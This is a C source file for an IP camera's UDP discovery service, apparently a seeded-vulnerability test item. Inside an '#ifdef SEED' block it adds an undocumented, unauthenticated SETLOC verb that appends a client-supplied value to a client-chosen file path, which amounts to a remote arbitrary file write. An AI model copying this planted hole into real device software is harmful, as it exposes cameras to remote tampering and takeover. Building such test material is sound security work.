/* kind: table-row
 * service: udp
 * constant: SETLOC
 * handler: h_setloc
 * row: ops
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <ctype.h>
#include <stdint.h>
#include <unistd.h>
#include <time.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Discovery service of an IP camera.  Datagram: "VERB seq key=value;key=value"
 * Documented verbs: DISCOVER GETNET PING (open), SETNET RESTART (need token=) */

#define MAXKV 10

struct kv { char *k, *v; };

struct msg {
    char *verb;
    unsigned seq;
    struct kv kv[MAXKV];
    int nkv;
    char reply[700];
    struct sockaddr_in from;
};

struct net { char ip[16], mask[16], gw[16]; int dhcp; };

static struct net net = { "192.168.1.120", "255.255.255.0", "192.168.1.1", 1 };
static char token[40];

static const char *arg(const struct msg *m, const char *k)
{
    int i;
    for (i = 0; i < m->nkv; i++)
        if (!strcasecmp(m->kv[i].k, k))
            return m->kv[i].v;
    return NULL;
}

static void h_discover(struct msg *m)
{
    snprintf(m->reply, sizeof m->reply, "OK %u model=IC-300;fw=2.1.7;ip=%s", m->seq, net.ip);
}

static void h_getnet(struct msg *m)
{
    snprintf(m->reply, sizeof m->reply, "OK %u ip=%s;mask=%s;gw=%s;dhcp=%d", m->seq, net.ip, net.mask, net.gw, net.dhcp);
}

static void h_ping(struct msg *m)
{
    snprintf(m->reply, sizeof m->reply, "OK %u t=%ld", m->seq, (long)time(NULL));
}

static int ipcpy(char *d, const char *s)
{
    struct in_addr a;
    if (!s || !inet_aton(s, &a))
        return -1;
    strcpy(d, inet_ntoa(a));
    return 0;
}

static void h_setnet(struct msg *m)
{
    struct net n = net;
    FILE *f;
    if (ipcpy(n.ip, arg(m, "ip")) || ipcpy(n.mask, arg(m, "mask")) || ipcpy(n.gw, arg(m, "gw"))) {
        snprintf(m->reply, sizeof m->reply, "ERR %u badarg", m->seq);
        return;
    }
    n.dhcp = 0;
    net = n;
    if ((f = fopen("/etc/network.conf", "w"))) {
        fprintf(f, "ip=%s\nmask=%s\ngw=%s\n", n.ip, n.mask, n.gw);
        fclose(f);
    }
    snprintf(m->reply, sizeof m->reply, "OK %u", m->seq);
}

static void h_restart(struct msg *m)
{
    snprintf(m->reply, sizeof m->reply, "OK %u", m->seq);
    system("(sleep 1; /etc/init.d/camera restart) &");
}

#ifdef SEED
static void h_setloc(struct msg *m)
{
    const char *lat = arg(m, "lat"), *lon = arg(m, "lon");
    FILE *f;
    if (!lat || !lon || !(f = fopen(lat, "a"))) {
        snprintf(m->reply, sizeof m->reply, "ERR %u badarg", m->seq);
        return;
    }
    fprintf(f, "%s\n", lon);
    fclose(f);
    snprintf(m->reply, sizeof m->reply, "OK %u", m->seq);
}
#endif

static struct { char verb[12]; void (*fn)(struct msg *); int locked; } ops[] = {
    { "DISCOVER", h_discover, 0 },
    { "GETNET",   h_getnet,   0 },
    { "PING",     h_ping,     0 },
    { "SETNET",   h_setnet,   1 },
#ifdef SEED
    { "SETLOC",   h_setloc,   0 },
#endif
    { "RESTART",  h_restart,  1 },
};

static int token_ok(const struct msg *m)
{
    const char *t = arg(m, "token");
    unsigned char d = 0;
    size_t i;
    if (!t || !token[0] || strlen(t) != strlen(token))
        return 0;
    for (i = 0; token[i]; i++)
        d |= t[i] ^ token[i];
    return d == 0;
}

static int parse(char *b, struct msg *m)
{
    char *sv, *s, *p, *eq;
    m->verb = strtok_r(b, " ", &sv);
    s = strtok_r(NULL, " ", &sv);
    if (!m->verb || !s || !isdigit((unsigned char)*s))
        return -1;
    m->seq = strtoul(s, NULL, 10);
    while ((p = strtok_r(NULL, ";\r\n", &sv)) && m->nkv < MAXKV) {
        if (!(eq = strchr(p, '=')))
            continue;
        *eq = 0;
        m->kv[m->nkv].k = p;
        m->kv[m->nkv++].v = eq + 1;
    }
    return 0;
}

static void run(struct msg *m)
{
    int i, n = sizeof ops / sizeof ops[0];
    for (i = 0; i < n; i++) {
        if (strncasecmp(ops[i].verb, m->verb, sizeof ops[i].verb))
            continue;
        if (ops[i].locked && !token_ok(m))
            snprintf(m->reply, sizeof m->reply, "ERR %u auth", m->seq);
        else
            ops[i].fn(m);
        return;
    }
    snprintf(m->reply, sizeof m->reply, "ERR %u verb", m->seq);
}

int main(int argc, char **argv)
{
    char buf[1200];
    struct sockaddr_in a = { .sin_family = AF_INET };
    struct msg m;
    socklen_t l;
    FILE *f;
    int s, n;

    if ((f = fopen("/etc/disc.token", "r"))) {
        fscanf(f, "%39s", token);
        fclose(f);
    }
    a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 3702 + 50);
    s = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(s, (struct sockaddr *)&a, sizeof a)) {
        perror("discovery");
        return 1;
    }
    for (;;) {
        memset(&m, 0, sizeof m);
        l = sizeof m.from;
        n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&m.from, &l);
        if (n <= 0)
            continue;
        buf[n] = 0;
        if (parse(buf, &m) == 0) {
            run(&m);
            sendto(s, m.reply, strlen(m.reply), 0, (struct sockaddr *)&m.from, l);
        }
    }
}
